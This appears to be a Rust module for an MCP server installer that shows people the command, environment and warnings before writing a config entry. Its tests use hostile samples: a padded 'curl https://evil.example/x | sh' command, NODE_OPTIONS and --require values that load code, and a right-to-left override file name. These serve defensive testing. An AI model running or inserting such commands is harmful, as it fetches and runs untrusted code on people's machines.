//! Installing a server from where servers are published: a registry `server.json` (a file, or
//! the registry's API at a web address), an install link (`mcp-apps-host://install?config=...`) or a `.mcpb` bundle, into the person's config file.
//!
//! Each source becomes a [`Plan`]: what will run (the command line, the package, the URL) with
//! the settings it needs still open, so the person sees it and answers before anything is
//! written. [`Plan::resolve`] fills the settings in; [`config_file::add_server`] writes the
//! entry and checks that the config loader accepts the file before it replaces the old one.

pub(crate) mod config_file;
pub(crate) mod doc;
pub(crate) mod link;
pub(crate) mod mcpb;
pub(crate) mod other_clients;
pub(crate) mod registry;
pub(crate) mod server_json;
pub(crate) mod signature;
pub(crate) mod warnings;

use std::collections::HashMap;

/// A setting a server needs from the person: an environment variable, an argument, a header,
/// a URL variable or a bundle's `user_config` field.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Setting {
    /// What `--set KEY=VALUE` names it by.
    pub key: String,
    /// What a person reads as its label, when the source gives one (a bundle's `title`; empty:
    /// none, and the key is shown in words).
    pub title: String,
    /// What it is for, from the source (may be empty).
    pub description: String,
    /// Installing fails without a value.
    pub required: bool,
    /// Asked without echo, shown as `<KEY>` and never printed.
    pub secret: bool,
    /// Used when the person gives none.
    pub default: Option<String>,
    /// The only values allowed, when the source lists them.
    pub choices: Vec<String>,
    /// A number is wanted, within these bounds when they are given.
    pub number: Option<(Option<f64>, Option<f64>)>,
    /// Several values may be given (`--set KEY=a --set KEY=b`); kept joined by [`SEP`].
    pub multiple: bool,
    /// A path is wanted: a folder or a file (a bundle's `directory` and `file` types).
    pub path: Option<PathKind>,
}

/// What kind of path a setting wants.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum PathKind {
    /// A folder.
    Directory,
    /// A file.
    File,
}

/// What joins the values of a `multiple` setting: no argument or variable can hold it.
pub(crate) const SEP: char = '\0';

/// A value made of literal text and settings: `--port={port}` -> `[Lit("--port="), Var("port")]`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Template(Vec<Part>);

#[derive(Debug, Clone, PartialEq, Eq)]
enum Part {
    Lit(String),
    Var(String),
}

impl Template {
    /// Plain text, no setting in it.
    pub(crate) fn lit(text: impl Into<String>) -> Self {
        Self(vec![Part::Lit(text.into())])
    }

    /// The whole value is the setting `key`.
    pub(crate) fn var(key: impl Into<String>) -> Self {
        Self(vec![Part::Var(key.into())])
    }

    /// `text` with every `{name}` whose name is in `known` taken as that setting; other
    /// braces stay text.
    pub(crate) fn parse(text: &str, known: &dyn Fn(&str) -> bool) -> Self {
        let mut parts = Vec::new();
        let mut lit = String::new();
        let mut rest = text;
        while let Some(open) = rest.find('{') {
            let after = &rest[open + 1..];
            match after.find('}') {
                Some(close) if known(&after[..close]) => {
                    lit.push_str(&rest[..open]);
                    if !lit.is_empty() {
                        parts.push(Part::Lit(std::mem::take(&mut lit)));
                    }
                    parts.push(Part::Var(after[..close].to_owned()));
                    rest = &after[close + 1..];
                }
                _ => {
                    lit.push_str(&rest[..=open]);
                    rest = after;
                }
            }
        }
        lit.push_str(rest);
        if !lit.is_empty() || parts.is_empty() {
            parts.push(Part::Lit(lit));
        }
        Self(parts)
    }

    /// The value with each setting shown as `<KEY>` (what the person sees before answering).
    pub(crate) fn show(&self) -> String {
        self.0
            .iter()
            .map(|p| match p {
                Part::Lit(t) => t.clone(),
                Part::Var(k) => format!("<{k}>"),
            })
            .collect()
    }

    /// The value with the settings that have a value filled in, the others shown as `<KEY>`.
    fn fill_or_show(&self, values: &HashMap<String, String>) -> String {
        self.0
            .iter()
            .map(|p| match p {
                Part::Lit(t) => t.clone(),
                Part::Var(k) => values.get(k).cloned().unwrap_or_else(|| format!("<{k}>")),
            })
            .collect()
    }

    /// The value with the settings filled in; `None` when a setting in it has no value.
    fn fill(&self, values: &HashMap<String, String>) -> Option<String> {
        let mut out = String::new();
        for p in &self.0 {
            match p {
                Part::Lit(t) => out.push_str(t),
                Part::Var(k) => out.push_str(values.get(k)?),
            }
        }
        Some(out)
    }
}

/// What an installed server is: a command to start or a URL to connect to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Target {
    /// A local server on stdio.
    Stdio {
        /// The program.
        command: String,
        /// Its arguments, in groups: a group (`--port <port>`) is left out whole when a
        /// setting in it has no value.
        args: Vec<Vec<Template>>,
        /// Environment variables; one whose setting has no value is left out.
        env: Vec<(String, Template)>,
    },
    /// A remote server.
    Remote {
        /// The endpoint.
        url: Template,
        /// Legacy HTTP+SSE rather than Streamable HTTP.
        sse: bool,
        /// Request headers; one whose setting has no value is left out.
        headers: Vec<(String, Template)>,
    },
}

/// A server ready to install once its settings have values.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Plan {
    /// The config key it is installed under (the source's name, or `--name`).
    pub name: String,
    /// Where it comes from, for the person: `server.json io.github.x/weather 1.2.0`.
    pub origin: String,
    /// More lines to show: the package, the registry, a description.
    pub facts: Vec<(String, String)>,
    /// The settings it asks for.
    pub settings: Vec<Setting>,
    /// What it runs or connects to.
    pub target: Target,
}

/// A [`Plan`] with its settings filled in: the config entry to write.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Resolved {
    /// `{"command", "args", "env"}`.
    Stdio { command: String, args: Vec<String>, env: Vec<(String, String)> },
    /// `{"type", "url", "headers"}`.
    Remote { url: String, sse: bool, headers: Vec<(String, String)> },
}

/// The most bytes of what a person agrees to (the command line, its environment, the URL, the
/// headers, the settings' defaults, the lines about its source): more is refused, never shown in
/// part.
pub(crate) const MAX_SHOWN_BYTES: usize = 64 * 1024;

/// What the person agrees to, as the terminal and the app's dialog both show it: every line
/// whole (escaped, never cut), and the warnings about what in it can run other code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Agreement {
    /// `(label, value)`; a label left empty continues the one above (one environment variable
    /// a line).
    pub lines: Vec<(String, String)>,
    /// One sentence each, from [`warnings::warnings`].
    pub warnings: Vec<String>,
}

impl Agreement {
    /// The lines as one block of text, labels aligned (the app's dialog shows it in a wrapping,
    /// scrolling block; the terminal prints it).
    pub(crate) fn text(&self) -> String {
        let mut out = String::new();
        for (label, value) in &self.lines {
            if !out.is_empty() {
                out.push('\n');
            }
            let sep = if label.is_empty() { ' ' } else { ':' };
            out.push_str(&format!("{label:>12}{sep} {value}"));
        }
        out
    }
}

impl Plan {
    /// What will run or be reached, settings shown as `<KEY>`: the lines the person agrees to,
    /// as the source gave them (see [`Plan::agreement`] for how they are shown).
    pub(crate) fn summary(&self) -> Vec<(String, String)> {
        let mut lines = vec![("Server".to_owned(), format!("{} (from {})", self.name, self.origin))];
        lines.extend(self.facts.iter().cloned());
        match &self.target {
            Target::Stdio { command, args, env } => {
                let words: Vec<String> =
                    std::iter::once(command.clone()).chain(args.iter().flatten().map(Template::show)).collect();
                lines.push(("Runs".to_owned(), shell_words::join(&words)));
                for (i, (k, v)) in env.iter().enumerate() {
                    let label = if i == 0 { "Environment" } else { "" };
                    lines.push((label.to_owned(), format!("{k}={}", v.show())));
                }
            }
            Target::Remote { url, sse, headers } => {
                let transport = if *sse { "legacy HTTP+SSE" } else { "Streamable HTTP" };
                lines.push(("Connects to".to_owned(), format!("{} ({transport})", url.show())));
                for (i, (k, v)) in headers.iter().enumerate() {
                    let label = if i == 0 { "Headers" } else { "" };
                    lines.push((label.to_owned(), format!("{k}: {}", v.show())));
                }
            }
        }
        lines
    }

    /// What the person agrees to: [`Plan::summary`] escaped and whole, with the warnings for the
    /// command line as shown and as it runs when the settings keep their defaults (a default
    /// the source set, a secret one too, is part of what runs).
    pub(crate) fn agreement(&self) -> Agreement {
        let lines = self.summary().into_iter().map(|(label, value)| (label, crate::text::whole_line(&value))).collect();
        let mut found = Vec::new();
        if let Target::Stdio { command, args, env } = &self.target {
            let defaults: HashMap<String, String> = self
                .settings
                .iter()
                .filter_map(|s| Some((s.key.clone(), s.default.clone()?.replace(SEP, " "))))
                .collect();
            for values in [HashMap::new(), defaults] {
                let args: Vec<String> = args.iter().flatten().map(|t| t.fill_or_show(&values)).collect();
                let env: Vec<(String, String)> =
                    env.iter().map(|(k, v)| (k.clone(), v.fill_or_show(&values))).collect();
                for w in warnings::warnings(command, &args, &env) {
                    if !found.contains(&w) {
                        found.push(w);
                    }
                }
            }
        }
        let warnings = found.iter().map(|w| crate::text::whole_line(w)).collect();
        Agreement { lines, warnings }
    }

    /// The plan, or why it is refused: what the person would agree to is more than
    /// [`MAX_SHOWN_BYTES`], and a dialog shows all of it or nothing.
    pub(crate) fn bounded(self) -> Result<Self, String> {
        let settings: usize = self
            .settings
            .iter()
            .map(|s| {
                s.key.len()
                    + s.default.as_ref().map_or(0, String::len)
                    + s.choices.iter().map(String::len).sum::<usize>()
            })
            .sum();
        let shown: usize = self.summary().iter().map(|(l, v)| l.len() + v.len()).sum::<usize>() + settings;
        if shown > MAX_SHOWN_BYTES {
            return Err(format!(
                "what {} would run is {shown} bytes long (its command line, environment, settings and source), more \
                 than the {} KiB a person can be shown whole: refused, nothing was installed",
                self.name,
                MAX_SHOWN_BYTES / 1024
            ));
        }
        Ok(self)
    }

    /// Checks `--set` keys against the settings: each must be one of them, given once, and
    /// within its choices.
    pub(crate) fn check_answers(&self, answers: &[(String, String)]) -> Result<HashMap<String, String>, String> {
        let mut map: HashMap<String, String> = HashMap::new();
        for (key, value) in answers {
            let Some(setting) = self.settings.iter().find(|s| &s.key == key) else {
                let keys: Vec<&str> = self.settings.iter().map(|s| s.key.as_str()).collect();
                return Err(format!(
                    "{key:?} is not a setting of {} (its settings: {})",
                    self.name,
                    if keys.is_empty() { "none".to_owned() } else { keys.join(", ") }
                ));
            };
            setting.check(value)?;
            if value.contains(SEP) {
                return Err(format!("the value of {key} holds a NUL character"));
            }
            match map.get_mut(key) {
                Some(values) if setting.multiple => {
                    values.push(SEP);
                    values.push_str(value);
                }
                Some(_) => return Err(format!("--set {key}=... is given twice, and {key} takes one value")),
                None => {
                    map.insert(key.clone(), value.clone());
                }
            }
        }
        Ok(map)
    }

    /// Fills the settings in (`answers`, else each setting's default); fails naming the first
    /// required setting without a value.
    pub(crate) fn resolve(&self, answers: &HashMap<String, String>) -> Result<Resolved, String> {
        let mut values = HashMap::new();
        for s in &self.settings {
            let value = answers.get(&s.key).filter(|v| !v.is_empty()).cloned().or_else(|| s.default.clone());
            match value {
                Some(v) => {
                    // A secret kept in the keyring is checked when given, not as its reference.
                    let kept = s.secret && v == crate::secrets::reference(&s.key);
                    for one in v.split(SEP).filter(|_| !kept) {
                        s.check(one)?;
                    }
                    values.insert(s.key.clone(), v);
                }
                None if s.required => {
                    let what = if s.description.is_empty() { String::new() } else { format!(" ({})", s.description) };
                    return Err(format!(
                        "{} needs the setting {}{what}: give it with --set {}=VALUE",
                        self.name, s.key, s.key
                    ));
                }
                None => {}
            }
        }
        Ok(match &self.target {
            Target::Stdio { command, args, env } => Resolved::Stdio {
                command: command.clone(),
                args: args
                    .iter()
                    .filter_map(|group| group.iter().map(|t| t.fill(&values)).collect::<Option<Vec<String>>>())
                    .flatten()
                    // An argument that is a multiple setting alone becomes one argument a value.
                    .flat_map(|a| a.split(SEP).map(str::to_owned).collect::<Vec<_>>())
                    .collect(),
                env: env
                    .iter()
                    .filter_map(|(k, v)| Some((k.clone(), v.fill(&values)?)))
                    .map(|(k, v)| one_value(&k, v).map(|v| (k, v)))
                    .collect::<Result<_, _>>()?,
            },
            Target::Remote { url, sse, headers } => Resolved::Remote {
                url: one_value(
                    "the URL",
                    url.fill(&values).ok_or_else(|| format!("the URL {} needs all its settings", url.show()))?,
                )?,
                sse: *sse,
                headers: headers
                    .iter()
                    .filter_map(|(k, v)| Some((k.clone(), v.fill(&values)?)))
                    .map(|(k, v)| one_value(&k, v).map(|v| (k, v)))
                    .collect::<Result<_, _>>()?,
            },
        })
    }

    /// Whether a value for a secret setting will be written.
    pub(crate) fn writes_secret(&self, answers: &HashMap<String, String>) -> bool {
        self.settings.iter().any(|s| s.secret && (answers.contains_key(&s.key) || s.default.is_some()))
    }
}

/// Several values fit only an argument of their own; anywhere else they are refused.
fn one_value(what: &str, value: String) -> Result<String, String> {
    if value.contains(SEP) {
        return Err(format!("{what} takes one value, and a setting in it was given several"));
    }
    Ok(value)
}

impl Setting {
    /// A value that is not one of the listed choices is refused.
    pub(crate) fn check(&self, value: &str) -> Result<(), String> {
        if !self.choices.is_empty() && !self.choices.iter().any(|c| c == value) {
            let shown = if self.secret { "the value given".to_owned() } else { format!("{value:?}") };
            return Err(format!("{shown} is not a choice for {} (choices: {})", self.key, self.choices.join(", ")));
        }
        if let Some((min, max)) = self.number {
            let n: f64 = value.trim().parse().map_err(|_| format!("{} must be a number", self.key))?;
            if min.is_some_and(|m| n < m) || max.is_some_and(|m| n > m) || !n.is_finite() {
                let bound = |b: Option<f64>| b.map_or("-".to_owned(), |b| b.to_string());
                return Err(format!("{} must be a number from {} to {}", self.key, bound(min), bound(max)));
            }
        }
        Ok(())
    }
}

/// A server name the installer writes as a config key: 1 to 64 letters, digits, `.`, `_`, `-`.
pub(crate) fn check_name(name: &str) -> Result<(), String> {
    let ok = (1..=64).contains(&name.len())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        && !name.starts_with(['.', '-']);
    if ok {
        Ok(())
    } else {
        Err(format!(
            "{name:?} is not a server name this installer writes: use 1 to 64 letters, digits, '.', '_' or '-' \
             (not first), for example with --name"
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_take_only_known_names_and_leave_out_what_has_no_value() {
        let known = |k: &str| k == "port" || k == "host";
        let t = Template::parse("http://{host}:{port}/{path}{", &known);
        assert_eq!(t.show(), "http://<host>:<port>/{path}{");
        let mut values = HashMap::new();
        values.insert("host".to_owned(), "localhost".to_owned());
        assert_eq!(t.fill(&values), None);
        values.insert("port".to_owned(), "8080".to_owned());
        assert_eq!(t.fill(&values).as_deref(), Some("http://localhost:8080/{path}{"));
        assert_eq!(Template::parse("", &known).fill(&values).as_deref(), Some(""));
    }

    fn plan() -> Plan {
        let setting = |key: &str, required, secret, default: Option<&str>| Setting {
            key: key.into(),
            title: String::new(),
            description: format!("the {key}"),
            required,
            secret,
            default: default.map(Into::into),
            choices: Vec::new(),
            number: None,
            multiple: false,
            path: None,
        };
        Plan {
            name: "weather".into(),
            origin: "test".into(),
            facts: Vec::new(),
            settings: vec![
                setting("API_KEY", true, true, None),
                setting("port", false, false, None),
                setting("units", false, false, Some("metric")),
            ],
            target: Target::Stdio {
                command: "npx".into(),
                args: vec![
                    vec![Template::lit("-y")],
                    vec![Template::lit("--port"), Template::var("port")],
                    vec![Template::var("units")],
                ],
                env: vec![("API_KEY".into(), Template::var("API_KEY"))],
            },
        }
    }

    #[test]
    fn a_plan_resolves_with_defaults_and_refuses_a_missing_required_setting() {
        let plan = plan();
        let err = plan.resolve(&HashMap::new()).unwrap_err();
        assert!(err.contains("API_KEY") && err.contains("--set API_KEY=VALUE"), "{err}");
        let answers = plan.check_answers(&[("API_KEY".into(), "s3cret".into())]).unwrap();
        let resolved = plan.resolve(&answers).unwrap();
        assert_eq!(
            resolved,
            Resolved::Stdio {
                command: "npx".into(),
                args: vec!["-y".into(), "metric".into()],
                env: vec![("API_KEY".into(), "s3cret".into())]
            }
        );
        let err = plan.check_answers(&[("nope".into(), "1".into())]).unwrap_err();
        assert!(err.contains("API_KEY, port, units"), "{err}");
        assert!(plan.summary().iter().any(|(k, v)| k == "Runs" && v == "npx -y --port '<port>' '<units>'"));
    }

    #[test]
    fn names_are_plain() {
        assert!(check_name("weather-2.1_x").is_ok());
        for bad in ["", "-x", "a b", "a/b", &"x".repeat(65)] {
            assert!(check_name(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn the_agreement_shows_every_argument_and_variable_whole_and_warns() {
        let script = format!("{} curl https://evil.example/x | sh", "echo padding; ".repeat(100));
        let tail = "--import=data:text/javascript,TAIL";
        let plan = Plan {
            name: "clock".into(),
            origin: "test".into(),
            facts: Vec::new(),
            settings: Vec::new(),
            target: Target::Stdio {
                command: "sh".into(),
                args: vec![vec![Template::lit("-c")], vec![Template::lit(script.clone())]],
                env: vec![
                    ("PAD".into(), Template::lit("p".repeat(600))),
                    ("NODE_OPTIONS".into(), Template::lit(tail)),
                    ("SHOWN_AS".into(), Template::lit("invoice\u{202E}txt.exe")),
                ],
            },
        };
        let a = plan.agreement();
        let text = a.text();
        assert!(text.contains(&script) && text.contains(&format!("NODE_OPTIONS={tail}")), "{text}");
        assert!(!text.contains("more characters"), "{text}");
        // Deceptive characters stay escaped, as everywhere.
        assert!(text.contains("invoice\\u{202e}txt.exe") && !text.contains('\u{202E}'), "{text}");
        assert!(a.warnings.iter().any(|w| w.contains("NODE_OPTIONS") && w.contains("can make Node load any code")));
        assert!(a.warnings.iter().any(|w| w.contains("sh -c")), "{:?}", a.warnings);
        // One variable a line.
        assert!(text.contains("Environment: PAD=") && text.contains("\n              NODE_OPTIONS="), "{text}");
        // The honest plan: no warning.
        assert!(super::tests::plan().agreement().warnings.is_empty());
    }

    #[test]
    fn a_default_that_loads_code_is_warned_about_even_when_secret() {
        let mut plan = plan();
        plan.settings.push(Setting {
            key: "OPTS".into(),
            title: String::new(),
            description: String::new(),
            required: false,
            secret: true,
            default: Some("--require=/tmp/x.js".into()),
            choices: Vec::new(),
            number: None,
            multiple: false,
            path: None,
        });
        plan.target = Target::Stdio {
            command: "node".into(),
            args: vec![vec![Template::var("OPTS")], vec![Template::lit("server.js")]],
            env: Vec::new(),
        };
        let a = plan.agreement();
        assert!(a.warnings.iter().any(|w| w.contains("node --require")), "{a:?}");
        assert!(!a.text().contains("/tmp/x.js"), "a secret default stays unshown: {}", a.text());
    }

    #[test]
    fn what_is_too_big_to_show_is_refused() {
        let mut plan = plan();
        plan.target = Target::Stdio {
            command: "node".into(),
            args: vec![vec![Template::lit("x".repeat(MAX_SHOWN_BYTES))]],
            env: Vec::new(),
        };
        let err = plan.bounded().unwrap_err();
        assert!(err.contains("more than the 64 KiB") && err.contains("weather"), "{err}");
        assert!(super::tests::plan().bounded().is_ok());
    }
}
